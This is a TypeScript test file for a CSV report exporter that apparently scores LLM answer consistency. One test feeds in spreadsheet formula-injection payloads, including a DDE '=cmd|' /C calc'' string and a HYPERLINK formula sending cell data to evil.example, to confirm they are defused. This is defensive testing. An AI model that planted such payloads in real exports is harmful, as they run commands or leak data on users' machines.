import assert from "node:assert/strict";
import test from "node:test";
import { PassThrough } from "node:stream";
import { parse } from "csv-parse/sync";
import { csvCell, defuse } from "./csv-cell.js";
import { CSV_COLUMNS } from "./csv.js";
import { writeReport } from "./index.js";
import { fortuneRow, runInfo, sourceOf } from "../../testing/batch-rows.js";
import type { BatchRow, BatchRunInfo } from "./types.js";

async function csvOf(run: BatchRunInfo, rows: BatchRow[]): Promise<{ text: string; records: string[][] }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on("data", (c: Buffer) => chunks.push(c));
  await writeReport("csv", sourceOf(run, rows), out);
  const text = Buffer.concat(chunks).toString("utf8");
  return { text, records: parse(text, { relax_column_count: false }) as string[][] };
}

const field = (records: string[][], r: number, name: string) => records[r + 1][records[0].indexOf(name)];

test("one record per question × target, with the documented columns and the input's extra columns last", async () => {
  const run = runInfo({ metaColumns: ["source", "difficulty"] });
  const rows = [fortuneRow({ meta: { source: "TruthfulQA", difficulty: 3 } }), fortuneRow({ target: "ollama:qwen2.5:7b", meta: { source: "TruthfulQA", difficulty: 3 } })];
  const { text, records } = await csvOf(run, rows);
  assert.deepEqual(records[0], [...CSV_COLUMNS, "source", "difficulty"]);
  assert.equal(records.length, 3);
  assert.ok(text.endsWith("\r\n"), "RFC 4180 line ends");
  const expected = (0.12 + 0.08 + 0.05 + 0.82 + 0.77 + 0.71) / 6;
  assert.equal(Number(field(records, 0, "consistency")), Math.round(expected * 10_000) / 10_000);
  assert.equal(field(records, 0, "answers"), "4");
  assert.equal(field(records, 0, "failed_answers"), "0");
  assert.equal(field(records, 0, "probes"), "3");
  assert.equal(Number(field(records, 0, "mean_probe_relevance")), Math.round(((0.81 + 0.74 + 0.62) / 3) * 10_000) / 10_000);
  assert.equal(field(records, 0, "worst_pair"), "Q–P3 0.05");
  assert.equal(field(records, 0, "outliers"), "Q");
  assert.equal(field(records, 0, "flags"), "inconsistent outliers");
  assert.equal(field(records, 0, "difficulty"), "3");
  assert.equal(field(records, 1, "target"), "ollama:qwen2.5:7b");
  assert.equal(field(records, 0, "within_prompt"), "", "no samples breakdown with one sample");
});

test("a failed row keeps its error and leaves the scores empty; answer failures and missing probes are flagged", async () => {
  const run = runInfo();
  const failed: BatchRow = { idx: 1, line: 3, question: "What is 2+2?", meta: { source: "x" }, target: "ollama:llama3.2:3b", error: "ollama: model not found (ollama pull llama3.2:3b)" };
  const partial = fortuneRow({
    idx: 2,
    answers: ["a b c", null, "a b d", "a b e"],
    pairwise: [
      [1, 0.9, 0.8],
      [0.9, 1, 0.85],
      [0.8, 0.85, 1],
    ],
    probeCount: 5,
  });
  const { records } = await csvOf(run, [failed, partial]);
  assert.equal(field(records, 0, "error"), failed.error);
  assert.equal(field(records, 0, "flags"), "error");
  assert.equal(field(records, 0, "consistency"), "");
  assert.equal(field(records, 1, "failed_answers"), "1");
  assert.equal(field(records, 1, "flags"), "failed_answers few_probes");
  assert.equal(field(records, 1, "worst_pair"), "Q–P3 0.80", "labels follow the answers, skipping the failed one");
});

test("quotes, commas and newlines survive a round trip through a CSV parser", async () => {
  const question = 'He said "no", then\nleft; what, exactly,\r\nhappened?';
  const { records } = await csvOf(runInfo({ metaColumns: ["note"] }), [fortuneRow({ question, meta: { note: 'a,b"c' } })]);
  assert.equal(field(records, 0, "question"), question);
  assert.equal(field(records, 0, "note"), 'a,b"c');
});

test("text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers", async () => {
  const run = runInfo({ metaColumns: ["=cmd|' /C calc'!A0", "n", "s", "neg", "tab", "cr"] });
  const row = fortuneRow({
    question: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    id: "+1+1",
    category: "@SUM(A1:A9)",
    target: "-2+3+cmd|' /C calc'!A0",
    meta: { "=cmd|' /C calc'!A0": "x", n: -3.5, s: "-0.25", neg: "-1+1", tab: "\t=1+1", cr: "\r=1+1" },
    error: "=1+1",
  });
  const { records } = await csvOf(run, [row]);
  assert.equal(records[0][CSV_COLUMNS.length], "'=cmd|' /C calc'!A0", "a header from the input is guarded too");
  assert.equal(field(records, 0, "question"), `'${row.question}`);
  assert.equal(field(records, 0, "id"), "'+1+1");
  assert.equal(field(records, 0, "category"), "'@SUM(A1:A9)");
  assert.equal(field(records, 0, "target"), `'${row.target}`);
  assert.equal(field(records, 0, "error"), "'=1+1");
  assert.equal(field(records, 0, "n"), "-3.5", "a number from the input stays a number");
  assert.equal(field(records, 0, "s"), "-0.25", "text that is exactly a number cannot be a formula");
  assert.equal(field(records, 0, "neg"), "'-1+1");
  assert.equal(field(records, 0, "tab"), "'\t=1+1");
  assert.equal(field(records, 0, "cr"), "'\r=1+1");
  for (const record of records.slice(1)) for (const cell of record) assert.doesNotMatch(cell, /^[=+@\t\r]/, `unguarded cell ${JSON.stringify(cell)}`);
});

test("cells: quoting rules, numbers rounded to 4 decimals, empty for missing and non-finite values", () => {
  assert.equal(csvCell("plain"), "plain");
  assert.equal(csvCell("a,b"), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell(" padded "), '" padded "');
  assert.equal(csvCell(0.123456), "0.1235");
  assert.equal(csvCell(-0.5), "-0.5");
  assert.equal(csvCell(12), "12");
  assert.equal(csvCell(Number.NaN), "");
  assert.equal(csvCell(undefined), "");
  assert.equal(csvCell(null), "");
  assert.equal(csvCell(true), "true");
  assert.equal(csvCell("=1,2"), `"'=1,2"`);
  assert.equal(defuse("@x"), "'@x");
  assert.equal(defuse("+7"), "+7");
  assert.equal(defuse("1e-3"), "1e-3");
});

test("meta columns that clash with the report's own columns are renamed meta.<name>", async () => {
  const run = runInfo({ metaColumns: ["target", "source"] });
  const { records } = await csvOf(run, [fortuneRow({ meta: { target: "human label", source: "s" } })]);
  assert.deepEqual(records[0].slice(-2), ["meta.target", "source"]);
  assert.equal(field(records, 0, "target"), "ollama:llama3.2:3b");
  assert.equal(field(records, 0, "meta.target"), "human label");
});

test("non-answers: their own column and flag, and never the worst pair", async () => {
  const row = fortuneRow();
  const scores = row.result!.scores;
  scores.nonAnswers = [{ index: 0, kind: "refusal" }];
  scores.mostlyNonAnswers = true;
  const { records } = await csvOf(runInfo(), [row]);
  assert.equal(field(records, 0, "non_answers"), "Q refusal");
  assert.match(field(records, 0, "flags"), /\bmostly_non_answers\b/);
  assert.doesNotMatch(field(records, 0, "worst_pair"), /^Q–/, "the refusal Q is no pair's worst");
});
